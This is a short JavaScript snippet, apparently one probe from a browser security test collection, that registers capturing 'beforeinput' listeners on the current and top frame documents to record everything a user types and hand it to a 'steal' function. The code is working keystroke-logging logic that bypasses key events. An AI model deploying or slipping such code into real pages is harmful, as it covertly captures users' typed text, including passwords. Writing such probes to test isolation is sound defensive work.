// Tries: note what is typed by the events of editing, which tell the text without any key.
(() => {
  let text = "";
  for (const view of new Set([window, top])) {
    attempt(() => view.document.addEventListener("beforeinput", (event) => steal("log-input", (text += event.data)), true));
  }
  over("log-input");
})();
